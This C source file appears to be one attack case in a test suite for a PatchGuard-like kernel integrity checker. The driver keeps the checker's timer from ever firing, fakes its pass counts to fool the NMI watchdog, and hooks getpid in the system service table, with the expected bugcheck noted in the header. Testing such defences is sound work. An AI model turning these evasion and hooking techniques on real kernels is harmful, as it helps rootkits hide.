/* attack_a52_rolling (A52): keep every pass one step ahead, for ever. From
 * a timer of its own that runs on every tick, re-arms PatchGuard's timer
 * (attack_pg.h) just inside the longest delay the tick hook allows and
 * moves the recorded pass deadline along with it, so the timer is always
 * armed and never fires; sets the random-pass rate and the piggy-back's
 * countdown to their maximum, and counts a random pass on every tick so
 * the NMI watchdog sees passes go by; then hooks getpid as attack_a1.
 * Expected: 0x109 type 0x101 (no context was opened and closed again for
 * longer than the schedule allows) or 0xA. */
#include "attack_pg.h"

static struct ktimer roller;
static struct dpc roller_dpc;
static struct pg_state *state;

static uint64_t hooked_getpid(uint64_t a1, uint64_t a2, uint64_t a3, uint64_t a4, uint64_t a5, uint64_t a6)
{
	return 4242;
}

static void roll(struct dpc *d, void *ctx)
{
	uint64_t f = a_cli();
	uint64_t ahead = state->max_delay_ticks - 1;
	timer_set(state->timer, ahead * NSEC_PER_TICK, 0);
	state->timer_deadline = ticks() + ahead + state->grace_ticks;
	state->passes_random++;
	a_restore(f);
}

status_t driver_entry(struct driver_object *drv)
{
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	state = a_find_pg();
	uint64_t *table = a_find_service_table();
	if (!state || !table) {
		printk("attack_a52: PatchGuard's state or the service table not found\n");
		a_restore(pf);
		return KPP_STATUS_UNSUCCESSFUL;
	}
	state->random_per_tick = ~0u;
	state->piggy_countdown = ~0u;
	dpc_init(&roller_dpc, roll, NULL);
	timer_init(&roller, &roller_dpc);
	timer_set(&roller, NSEC_PER_TICK, NSEC_PER_TICK);
	roll(&roller_dpc, NULL);
	uint64_t hook = (uint64_t)&hooked_getpid;
	a_write_protected(&table[KPP_SYS_GET_PID], &hook, sizeof hook);
	printk("attack_a52: PatchGuard's timer rolled ahead on every tick, random passes and piggy-back off, getpid hooked\n");
	a_patched("attack_a52");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
